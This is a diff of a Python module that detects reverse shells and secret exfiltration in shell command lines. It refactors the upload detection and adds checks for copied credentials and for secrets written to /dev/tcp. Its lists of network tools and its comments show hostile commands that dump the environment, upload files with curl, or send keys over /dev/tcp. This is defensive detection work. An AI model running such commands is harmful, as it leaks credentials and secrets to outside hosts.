@@ -10,7 +10,7 @@ from a network tool, script code joining a socket to a shell), ``exfiltration``
 from __future__ import annotations
 
 import re
-from collections.abc import Iterator, Sequence
+from collections.abc import Iterator
 
 from multiplex.shell.detection._catalogue import (
     DOWNLOAD_EXEC,
@@ -28,90 +28,25 @@ from multiplex.shell.detection._secret_paths import (
     resolved,
 )
 from multiplex.shell.detection._targets import Place
+from multiplex.shell.detection._uploads import NC, NETWORK_TOOLS, UPLOADERS, uploads
 from multiplex.shell.detection._writes import all_commands, evidence, write_targets
-from multiplex.shell.parsing._getopt import read_options, table
-from multiplex.shell.parsing._parsed import ParsedLine, Redirect, SimpleCommand
+from multiplex.shell.parsing._parsed import ParsedLine, SimpleCommand
 from multiplex.shell.parsing._unwrap import SHELLS
 
 __all__ = [
-    "COPIERS",
-    "copier_operands",
     "each_downloaded_run",
     "each_network",
     "find_network",
     "network_redirect",
-    "ssh_config_files",
 ]
 
-_NC = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat"})
-_NET = _NC | {
-    "socat",
-    "telnet",
-    "curl",
-    "wget",
-    "ssh",
-    "openssl",
-    "rclone",
-    "scp",
-    "sftp",
-    "ftp",
-    "lftp",
-}
+_NC = NC
+_NET = NETWORK_TOOLS
 _LISTENERS = _NC | {"socat", "telnet", "openssl", "ssh"}  # a shell on either side is remote
-_COPIERS = frozenset({"scp", "rsync", "sftp", "rclone", "pscp"})
-# Their options that take a value, so a value is not read as a file to send: the key
-# of scp -i, rsync --exclude .env. OpenSSH's are short only; rsync's long ones are
-# matched whole (popt takes no abbreviation: its flags that begin a valued option's
-# name are listed, so --partial is not read as --partial-dir).
-_SSH_COPY = "c= D= F= i= J= l= o= P= S= X= b= B= R= s="
-_COPIER_OPTIONS = {
-    "scp": table("", _SSH_COPY),
-    "sftp": table("", _SSH_COPY),
-    "rsync": table(
-        "rsh= rsync-path= exclude= include= exclude-from= include-from= files-from= filter= "
-        "password-file= log-file= log-file-format= temp-dir= partial-dir= compare-dest= "
-        "copy-dest= link-dest= backup-dir= suffix= chmod= chown= usermap= groupmap= timeout= "
-        "contimeout= bwlimit= port= address= sockopts= out-format= max-size= min-size= "
-        "max-delete= max-alloc= block-size= checksum-choice= compress-choice= compress-level= "
-        "skip-compress= iconv= info= debug= stop-after= stop-at= modify-window= outbuf= "
-        "remote-option= checksum-seed= protocol= write-batch= only-write-batch= read-batch= "
-        "early-input= copy-as= partial compress checksum backup",
-        "e= f= B= T= M= @=",
-    ),
-}
-
-
-COPIERS = frozenset(_COPIER_OPTIONS)
-_SSH = table("", "B= b= c= D= E= e= F= I= i= J= L= l= m= O= o= P= p= Q= R= S= W= w=")
-
-
-def ssh_config_files(prog: str, args: Sequence[str]) -> list[str]:
-    """The files ssh, scp or sftp reads as its configuration (``-F FILE``): ssh prints each
-    line it cannot read as an option, so a secret named there reaches the output."""
-    spec = _SSH if prog == "ssh" else _COPIER_OPTIONS.get(prog) if prog != "rsync" else None
-    return read_options(args, spec).values("-F") if spec and "F" in "".join(args) else []
-
-
-def copier_operands(prog: str, args: Sequence[str]) -> list[str]:
-    """The files and hosts a copier (scp, sftp, rsync …) is given, without its options' values."""
-    spec = _COPIER_OPTIONS.get(prog)
-    return list(read_options(args, spec).operands) if spec else operands(args)
-
-
-# File-transfer clients that take their commands as text: from a here-string or
-# here-document, or from an option (lftp -e/-c, tftp -c).
-_FILE_CLIENTS = frozenset({"sftp", "ftp", "lftp", "ncftp", "tftp", "pftp", "yafc"})
-_PUTS = frozenset({"put", "mput", "reput", "send", "append"})
-_CLIENT_SCRIPT = ("-e", "-c")
 _SOCKET_SHELL = re.compile(r"\bsocket\b")
 _SHELL_HINT = re.compile(
     r"/bin/(?:ba|z|da)?sh\b|\bpty\b|\bdup2\b|\bsubprocess\b|\bspawn\b|\bexec\b"
 )
-_CURL_DATA = ("-d", "--data", "--data-binary", "--data-urlencode", "--json", "-F", "--form")
-_CURL_UPLOAD = ("-T", "--upload-file")
-_WGET_POST = ("--post-file", "--body-file")
-_UPLOADERS = frozenset({"curl", "http", "https", "xh", "wget", *_COPIERS, *_FILE_CLIENTS})
-_REMOTE = re.compile(r"^(?:[A-Za-z0-9_.@-]+|\[[0-9a-fA-F:]+\]):(?!//)")
 
 
 def network_redirect(cmd: SimpleCommand) -> bool:
@@ -135,57 +70,6 @@ def _reverse(cmd: SimpleCommand) -> bool:
     if prog in SHELLS and set(cmd.upstream) & (_LISTENERS - {"ssh"}):
         return True
     return prog in _LISTENERS and bool(set(cmd.upstream) & SHELLS)
-
-
-def _uploads(cmd: SimpleCommand) -> Iterator[str]:
-    """Paths ``cmd`` sends to the network by its own options (curl -d @f, scp f host:)."""
-    prog = cmd.program
-    args = cmd.argv[1:]
-    if prog in ("curl", "http", "https", "xh"):
-        for i, arg in enumerate(args):
-            value = args[i + 1] if i + 1 < len(args) else ""
-            for opt in _CURL_DATA + _CURL_UPLOAD:
-                if arg.startswith(opt + "="):
-                    value = arg[len(opt) + 1 :]
-                elif arg != opt:
-                    continue
-                if opt in _CURL_UPLOAD:
-                    yield value
-                elif "@" in value:
-                    yield value.split("@", 1)[1].split(";", 1)[0]
-                elif "<" in value:
-                    yield value.split("<", 1)[1]
-            if prog != "curl" and "@" in arg and not arg.startswith("-"):
-                yield arg.split("@", 1)[1]
-    elif prog == "wget":
-        for i, arg in enumerate(args):
-            for opt in _WGET_POST:
-                if arg.startswith(opt + "="):
-                    yield arg[len(opt) + 1 :]
-                elif arg == opt and i + 1 < len(args):
-                    yield args[i + 1]
-    if prog in _FILE_CLIENTS:  # sftp <<< 'put .env', lftp -e 'put .env', tftp -c put .env
-        yield from _client_puts(prog, args, cmd.redirects)
-    elif prog in _COPIERS:
-        ops = copier_operands(prog, args)
-        if len(ops) > 1 and (_REMOTE.match(ops[-1]) or prog == "rclone"):
-            yield from ops[:-1]
-    for r in cmd.redirects:
-        if r.op in ("<", "0<") and prog in _NET:
-            yield r.target
-
-
-def _client_puts(prog: str, args: Sequence[str], redirects: tuple[Redirect, ...]) -> Iterator[str]:
-    """The local files a file-transfer client's own commands send (``put F``, ``mput F G``)."""
-    texts = [r.target for r in redirects if r.op.startswith("<<")]
-    for i, arg in enumerate(args[:-1]):
-        if arg in _CLIENT_SCRIPT:
-            texts.append(" ".join(args[i + 1 :]) if prog == "tftp" else args[i + 1])
-    for text in texts:
-        for step in re.split(r"[;\n]", text):
-            words = step.split()
-            if words and words[0].lower() in _PUTS:
-                yield from (w for w in words[1:] if not w.startswith("-"))
 
 
 def _sensitive_source(word: str, place: Place) -> bool:
@@ -310,15 +194,16 @@ def each_network(parsed: ParsedLine, place: Place) -> Iterator[Finding]:
         if _SOCKET_SHELL.search(payload) and _SHELL_HINT.search(payload):
             yield Finding(REVERSE_SHELL, payload)
     readers_of_secrets: bool | None = None  # looked for once a network tool reads a pipe
-    dumped: set[str] = set()  # files an environment dump wrote earlier on the line
+    dumped: set[str] = set()  # files a dump or a credential's copy wrote earlier on the line
     for cmd in commands:
         if not cmd.argv:
             continue
-        if cmd.redirects and _dumps_environment(cmd):  # env > /tmp/e; curl -T /tmp/e …
+        # env > /tmp/e; curl -T /tmp/e …, and a credential copied first: cp KEY /tmp/k
+        if (cmd.redirects and _dumps_environment(cmd)) or _reads_secrets(cmd, place):
             dumped.update(write_targets(cmd))
         # _uploads yields only for these programs or from a redirection.
-        uploads = cmd.program in _UPLOADERS or cmd.redirects
-        if uploads and any(p in dumped or _sensitive_source(p, place) for p in _uploads(cmd)):
+        sends = cmd.program in UPLOADERS or cmd.redirects
+        if sends and any(p in dumped or _sensitive_source(p, place) for p in uploads(cmd)):
             yield Finding(EXFILTRATION, evidence(cmd), cmd.text)
         # Fed a pipe, or a substitution's output in its words (curl -d "$(env)").
         piped = cmd.program in _NET and (
@@ -328,6 +213,8 @@ def each_network(parsed: ParsedLine, place: Place) -> Iterator[Finding]:
             readers_of_secrets = any(_reads_secrets(c, place) for c in commands)
         if (piped and readers_of_secrets) or _sends_secret_variable(cmd):
             yield Finding(EXFILTRATION, evidence(cmd), cmd.text)
+        if cmd.redirects and network_redirect(cmd) and _reads_secrets(cmd, place):
+            yield Finding(EXFILTRATION, evidence(cmd), cmd.text)  # cat KEY > /dev/tcp/h/80
         if any(d.strip("/") == "" or _sensitive_source(d, place) for d in _served(cmd)):
             yield Finding(EXFILTRATION, evidence(cmd), cmd.text)  # a web server of the home
     if redirecting:
